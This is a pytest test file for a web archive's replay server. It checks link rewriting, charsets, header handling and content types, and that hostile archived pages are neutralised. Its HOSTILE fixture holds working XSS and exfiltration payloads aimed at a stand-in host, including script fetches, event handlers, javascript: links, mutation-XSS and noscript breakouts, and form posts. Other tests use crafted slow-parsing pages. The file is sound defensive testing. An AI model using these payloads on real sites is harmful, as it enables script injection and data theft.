"""What a replayed page, style sheet, picture or file is, and that a hostile one cannot act."""

from __future__ import annotations

import re
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser

from archive.web.resources import MOST_SHOWN
from tests.memento.scene import PORTAL, Scene
from tests.portal.server import SiteServer
from tests.web.judges import PHONE, needs_chromium
from tests.web.library import jpeg
from tests.web.live import chromium, served

T = "20220928083015"
PAGE = """<!DOCTYPE html><html><head><base href="/tin/">
<meta http-equiv="Content-Type" content="text/html; charset=windows-1258">
<link rel="stylesheet" href="../kieu.css" media="screen"><link rel="preload" href="x.js">
<style>@import "them.css"; h1 { background: url(nen.png) }</style></head>
<body background="vien.gif"><h1 style="background:url('tieu-de.png')">Tên bài</h1>
<img src="anh.jpg" srcset="anh.jpg 1x, anh@2x.jpg 2x" alt="ảnh">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="lazy.jpg">
<a href="hai.html#cuoi">tiếp</a> <a href="https://khac.example/x?a=1&amp;b=2">ngoài</a>
<a href="mailto:a@b.vn">thư</a> <a href="#dau">đầu</a>
<form action="/tim" method="post"><input name="q"><button>Tìm</button></form>
<iframe src="https://video.example/embed/1"></iframe></body></html>"""

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">
<script>document.title = 'acted'; fetch('https://evil.example/fetch')</script>
<script src="https://evil.example/a.js"></script>
<style>@import url(https://evil.example/i.css); body { background: u\\72l(https://evil.example/e.png) }
@font-face { font-family: x; src: url(https://evil.example/f.woff) } h1 { font-family: x }</style></head>
<body onload="document.title='acted'">
<h1>Nguy hiểm</h1>
<img src="https://evil.example/p.png" onerror="document.title='acted'">
<img src=x srcset="https://evil.example/s.png 1x" onerror="document.title='acted'">
<svg onload="document.title='acted'"><script>document.title='acted'</script>
<image href="https://evil.example/svg.png"/>
<a xlink:href="javascript:document.title='acted'"><text>x</text></a>
<use href="https://evil.example/u.svg#a"/></svg>
<a id="js" href="jav&#x09;ascript:document.title='acted'">js</a>
<a id="out" href="/leave">ra ngoài</a>
<iframe srcdoc="<script>parent.document.title='acted'</script>"></iframe>
<iframe src="javascript:document.title='acted'"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/v.png"></video>
<form action="https://evil.example/post"><input name="a" value="1"><button id="send">Gửi</button></form>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=document.title='acted'&gt;">
</mglyph></table></mtext></math>
<div style="background:url(https://evil.example/d.png);behavior:url(b.htc);width:expression(1)">
</div><noscript><p title="</noscript><img src=x onerror=document.title='acted'>"></noscript></body></html>"""


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Scene:
    scene = Scene.at(tmp_path_factory.mktemp("replay"))
    scene.capture("/tin/mot.html", T, PAGE.encode(), mime="text/html; charset=utf-8")
    scene.capture("/kieu.css", T, b'body { background: url("/nen.png") } @import "sau.css";', mime="text/css")
    scene.capture("/tin/anh.jpg", T, jpeg(300, 200), mime="text/html")  # the type is a lie
    scene.capture("/tin/lazy.jpg", T, jpeg(30, 20), mime="image/jpeg")
    scene.capture("/xau.html", T, HOSTILE.encode())
    return scene


@pytest.fixture
def client(scene: Scene) -> FlaskClient:
    return scene.client()


def replay(client: FlaskClient, path: str, kind: str = "") -> str:
    return client.get(f"/web/{T}{kind}/{PORTAL}{path}").text


# --------------------------------------------------------------------------------- what is shown and how


def test_addresses_in_a_page_lead_into_the_archive(client: FlaskClient) -> None:
    html = replay(client, "/tin/mot.html")
    for kind, url in (
        ("cs_", "/kieu.css"),
        ("cs_", "/tin/them.css"),
        ("im_", "/tin/nen.png"),
        ("im_", "/tin/vien.gif"),
        ("im_", "/tin/tieu-de.png"),
        ("im_", "/tin/anh.jpg"),
        ("im_", "/tin/anh@2x.jpg"),
        ("im_", "/tin/lazy.jpg"),
        ("", "/tin/hai.html#cuoi"),
    ):
        assert f"/web/{T}{kind}/{PORTAL}{url}" in html, url
    assert f'href="/web/{T}/https://khac.example/x?a=1&amp;b=2"' in html
    assert f'href="/web/{T}/https://video.example/embed/1"' in html
    assert 'href="mailto:a@b.vn"' in html
    assert 'href="#dau"' in html
    assert "<base" not in html
    assert "<form>" in html


def test_the_page_is_sent_as_utf_8_in_its_own_layout_mode(client: FlaskClient) -> None:
    answer = client.get(f"/web/{T}/{PORTAL}/tin/mot.html")
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert answer.text.startswith("<!DOCTYPE html>")
    assert "windows-1258" not in answer.text
    assert "Tên bài" in answer.text


def test_old_charsets_are_read_as_the_extractor_reads_them(scene: Scene, client: FlaskClient) -> None:
    scene.capture("/cu.html", T, "<meta charset=utf-16><p>Đầm Hà</p>".encode("utf-16"), mime="text/html")
    html = replay(client, "/cu.html")
    assert "Đầm Hà" in html
    assert not html.startswith("<!DOCTYPE"), "a page of the quirks mode stays one"


def test_the_banner_says_what_when_and_where(client: FlaskClient) -> None:
    html = replay(client, "/tin/mot.html")
    strip = html[html.index('id="kho-luu-tru"') :]
    assert "15:30 ngày 28/09/2022" in strip
    assert f'href="{PORTAL}/tin/mot.html" rel="nofollow noopener external"' in strip
    assert f'href="/web/*/{PORTAL}/tin/mot.html"' in strip
    assert "kho-luu-tru" not in replay(client, "/tin/mot.html", "if_")


def test_style_sheets_pictures_and_raw_bytes(client: FlaskClient) -> None:
    sheet = client.get(f"/web/{T}cs_/{PORTAL}/kieu.css")
    assert sheet.headers["Content-Type"] == "text/css; charset=utf-8"
    assert f'url("/web/{T}im_/{PORTAL}/nen.png")' in sheet.text
    assert f'@import "/web/{T}cs_/{PORTAL}/sau.css"' in sheet.text
    picture = client.get(f"/web/2021im_/{PORTAL}/tin/anh.jpg")
    assert (picture.status_code, picture.headers["Content-Type"]) == (200, "image/jpeg")
    assert picture.headers["Content-Location"] == f"/web/{T}im_/{PORTAL}/tin/anh.jpg"
    assert picture.data == jpeg(300, 200)
    raw = client.get(f"/web/{T}id_/{PORTAL}/tin/mot.html")
    assert raw.data == PAGE.encode()
    assert "sandbox" in raw.headers["Content-Security-Policy"]


def test_the_server_s_own_header_fields_are_told_under_another_name(
    scene: Scene, client: FlaskClient
) -> None:
    fields = (
        ("Server", "Microsoft-IIS/7.5"),
        ("Set-Cookie", "id=1"),
        ("Content-Type", "text/html"),
        ("X-Odd", "tiếng Việt\x07".encode().decode("latin-1")),
        ("Content-Security-Policy", "default-src *"),
    )
    scene.capture("/dau.html", T, b"<p>x</p>", headers=fields, gzipped=True)
    answer = client.get(f"/web/{T}/{PORTAL}/dau.html")
    assert answer.headers["X-Archive-Orig-Server"] == "Microsoft-IIS/7.5"
    assert answer.headers["X-Archive-Orig-Content-Encoding"] == "gzip"
    assert "X-Archive-Orig-Set-Cookie" not in answer.headers
    assert "Set-Cookie" not in answer.headers
    assert answer.headers["Content-Security-Policy"].startswith("sandbox;")
    assert "<p>x</p>" in answer.text


@pytest.mark.parametrize(
    ("path", "mime", "body", "served", "named"),
    [
        ("/qd.pdf", "application/pdf", b"%PDF-1.4 x", "application/pdf", 'attachment; filename="qd.pdf"'),
        ("/a%22b%0A.exe", "text/html/x", b"MZ\x90", "application/octet-stream", "attachment; filename="),
        ("/feed", "application/rss+xml", b"<rss/>", "text/plain; charset=utf-8", None),
        ("/a.js", "text/javascript", b"alert(1)", "text/plain; charset=utf-8", None),
        ("/a.svg", "image/svg+xml", b"<svg onload='alert(1)'/>", "image/svg+xml", None),
        ("/khong-loai", "", b"<!doctype html><p>x", "text/html; charset=utf-8", None),
    ],
)
def test_what_is_no_page_is_handed_out_as_what_it_is(
    scene: Scene, client: FlaskClient, path: str, mime: str, body: bytes, served: str, named: str | None
) -> None:
    scene.capture(path, T, body, mime=mime)
    answer = client.get(f"/web/{T}/{PORTAL}{path}")
    assert answer.headers["Content-Type"] == served
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    disposition = answer.headers.get("Content-Disposition")
    assert disposition is None if named is None else str(disposition).startswith(named)
    assert "\n" not in str(disposition)


def test_what_a_page_embeds_and_the_archive_lacks_is_a_short_answer(client: FlaskClient) -> None:
    answer = client.get(f"/web/{T}im_/{PORTAL}/tin/khong-co.png")
    assert (answer.status_code, answer.mimetype) == (404, "text/plain")


def test_a_link_that_the_archive_lacks_says_that_it_leads_out(client: FlaskClient) -> None:
    answer = client.get(f"/web/{T}/https://khac.example/x?a=1&b=2")
    assert answer.status_code == 404
    assert 'href="https://khac.example/x?a=1&amp;b=2" rel="nofollow noopener external"' in answer.text
    assert "ra khỏi kho" in answer.text
    assert "Kho không lưu trang nào trên tên miền này." in answer.text


@pytest.mark.parametrize(
    "address",
    [
        "//evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "http://a b/",
        "ftp://x/y",
        "%00",
        "http://[",
    ],
)
def test_nothing_leads_out_by_itself(client: FlaskClient, address: str) -> None:
    for path in (f"/web/{address}", f"/web/2022/{address}", f"/web/*/{address}", f"/timemap/link/{address}"):
        answer = client.get(path)
        assert answer.status_code in (400, 404), path
        assert "Location" not in answer.headers
        assert 'href="javascript:' not in answer.text


# --------------------------------------------------------------------------------------- hostile pages


def test_nothing_that_acts_is_left_in_the_markup(client: FlaskClient) -> None:
    html = replay(client, "/xau.html")
    assert not re.search(r"<(?:script|iframe|object|embed|base|meta http)", html, re.IGNORECASE)
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'title="[^"]*"', "", html), re.IGNORECASE)
    assert "javascript:" not in html
    assert "expression(1" not in html
    for found in re.findall(r'(?:src|href|poster|data)="(https?:[^"]+)"', html):
        assert found == f"{PORTAL}/xau.html", "only the banner's link to the original leads out"
    assert f"/web/{T}/https://evil.example/refresh" in html, "where it sent its readers is told"


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 300_000,
        "<a href=x style='background:url(y)'>z</a>" * 100_000,
        "<p " + "a" * 20_000_000 + ">",
        "<style>" + "a{b:" + "(" * 400_000 + "</style>",
        "<!--" + "-" * 5_000_000,
        "&lt;" * 2_000_000,
        "<img srcset='" + "a," * 500_000 + "'>",
        "<svg>" * 100_000 + "<script>alert(1)</script>",
        "\x00<scr\x00ipt>alert(1)</script>",
        "",
    ],
    ids=["deep", "links", "attribute", "css", "comment", "entities", "srcset", "svg", "nul", "empty"],
)
def test_a_page_made_to_be_slow_is_shown_within_bounds(
    scene: Scene, client: FlaskClient, text: str, request: pytest.FixtureRequest
) -> None:
    path = f"/cham-{request.node.callspec.id}.html"
    scene.capture(path, T, text.encode())
    began = time.thread_time()
    answer = client.get(f"/web/{T}/{PORTAL}{path}")
    assert answer.status_code == 200
    assert time.thread_time() - began < 10
    assert "<script" not in answer.text.lower()


@pytest.fixture(scope="module")
def evil(scene: Scene) -> Iterator[SiteServer]:
    """The host that the hostile page would reach for; it counts who comes."""
    server = SiteServer(lambda environ, start: (start("200 OK", []), [b"hit"])[1])
    body = HOSTILE.replace("https://evil.example", f"http://127.0.0.1:{server.port}")
    body = body.replace("//evil.example", f"//127.0.0.1:{server.port}")
    scene.capture("/that.html", T, body.encode())
    yield server
    server.close()


@pytest.fixture(scope="module")
def base(scene: Scene) -> Iterator[str]:
    with served(scene.settings) as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.mark.browser
@needs_chromium
def test_the_hostile_page_would_act_if_it_could(browser: Browser, evil: SiteServer, scene: Scene) -> None:
    """Served as any page is, it acts: so the tests below can fail."""
    page = browser.new_page()
    bare = scene.client().get(f"/web/{T}id_/{PORTAL}/that.html").data
    page.route("http://bare.example/", lambda route: route.fulfill(body=bare, content_type="text/html"))
    page.goto("http://bare.example/", wait_until="commit")
    page.wait_for_url(f"http://127.0.0.1:{evil.port}/refresh")
    assert evil.requests["/refresh"] == 1
    page.close()


@pytest.mark.browser
@needs_chromium
@pytest.mark.parametrize("kind", ["", "id_", "if_"])
def test_a_hostile_page_does_nothing_in_a_real_browser(
    browser: Browser, base: str, evil: SiteServer, kind: str
) -> None:
    """No script runs, no request leaves for another host, no form is sent: also for the raw bytes."""
    evil.requests.clear()
    page = browser.new_page()
    page.goto(f"{base}/web/{T}{kind}/{PORTAL}/that.html")
    page.wait_for_load_state("networkidle")
    for selector in ("#js", "#send"):
        if page.locator(selector).count():
            page.locator(selector).first.dispatch_event("click")
    assert page.title() != "acted"
    assert page.url == f"{base}/web/{T}{kind}/{PORTAL}/that.html"
    assert dict(evil.requests) == {}
    page.close()


@pytest.mark.browser
@needs_chromium
def test_a_page_is_shown_with_its_pictures_and_styles(browser: Browser, base: str) -> None:
    page = browser.new_page(viewport=PHONE)  # type: ignore[arg-type]
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Policy" in message.text else None)
    page.goto(f"{base}/web/{T}/{PORTAL}/tin/mot.html")
    page.wait_for_load_state("networkidle")
    boxes = [picture.bounding_box() for picture in page.locator("img").all()]
    assert [(round(box["width"]), round(box["height"])) for box in boxes if box] == [(300, 200), (30, 20)]
    assert refused == [], "the policy lets the archive's own answers through"
    assert page.locator("#kho-luu-tru").is_visible()
    page.get_by_role("link", name="tiếp").click()
    page.wait_for_url(f"{base}/web/{T}/{PORTAL}/tin/hai.html#cuoi")
    page.close()


@pytest.mark.parametrize("gzipped", [False, True], ids=["as it came", "unfolded"])
def test_what_is_too_large_to_be_shown_is_told_and_costs_no_memory(tmp_path: Path, gzipped: bool) -> None:
    scene = Scene.at(tmp_path)
    body = b"<html><p>\xff\xd8" + bytes(3 * MOST_SHOWN)
    scene.capture("/lon", T, body, gzipped=gzipped)
    scene.capture("/vua", T, body[: MOST_SHOWN - 9], mime="video/mp4", gzipped=gzipped)
    client = scene.client()
    assert client.get(f"/web/{T}/{PORTAL}/vua").status_code == 200
    tracemalloc.start()
    try:
        for kind in ("", "id_", "im_"):
            answer = client.get(f"/web/{T}{kind}/{PORTAL}/lon")
            assert answer.status_code == 403
            assert "quá lớn để hiện ở đây" in answer.text
            assert "archive export" in answer.text
        # The part that showed that it is too large, and the room in which it was unfolded.
        assert tracemalloc.get_traced_memory()[1] < 5 * MOST_SHOWN
    finally:
        tracemalloc.stop()
    scene.store.close()
